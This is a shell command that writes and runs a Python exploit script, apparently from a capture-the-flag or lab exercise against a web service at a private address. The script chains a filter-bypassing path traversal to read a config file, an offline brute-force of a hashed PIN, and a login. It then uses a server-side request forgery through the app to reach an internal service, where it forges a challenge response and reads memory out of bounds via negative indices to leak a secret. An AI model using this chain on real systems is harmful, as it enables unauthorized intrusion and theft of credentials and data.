cat > go.py <<'P'
import hashlib, re, urllib.parse, urllib.request
at = "http://10.40.1.10"
def get(path, form=None, cookie=""):
    data = urllib.parse.urlencode(form).encode() if form else None
    answer = urllib.request.urlopen(urllib.request.Request(at + path, data, {"Cookie": cookie}))
    return answer.read().decode(), answer.headers.get("Set-Cookie", "")
settings = get("/bulletin?name=....//desk.conf")[0]
get("/bulletin?name=....//manual/control.txt")
salt, wanted = re.search(r"salt = (\w+)", settings)[1], re.search(r"pin = (\w+)", settings)[1]
for number in range(100_000):
    pin = f"{number:05}"
    digest = hashlib.sha1(f"{salt}${pin}".encode()).digest()
    for _ in range(49): digest = hashlib.sha1(digest).digest()
    if digest.hex() == wanted: break
cookie = get("/desk", {"name": "tveit", "pin": pin})[1]
get("/desk", cookie=cookie)
def talk(text): return get("/line", {"host": "10.40.2.20", "port": "9100", "text": text}, cookie)[0].split("\n")
number = int(talk("HAIL\nBYE\n")[0]) * 48271 % 2147483647
response = hashlib.sha256(f"tveit:{pin}:{number}".encode()).hexdigest()[:16]
# A span that begins below nought is counted from the end of the registers; one of a single register is that register.
told = talk(f"SIGN tveit {response}\n" + "".join(f"MEAN {n} 1\n" for n in range(-32, 0)) + "BYE\n")
words = b"".join(int(float(word)).to_bytes(4, "big") for word in told[1:33])
print(words.rstrip(b"\0").decode())
P
python3 go.py
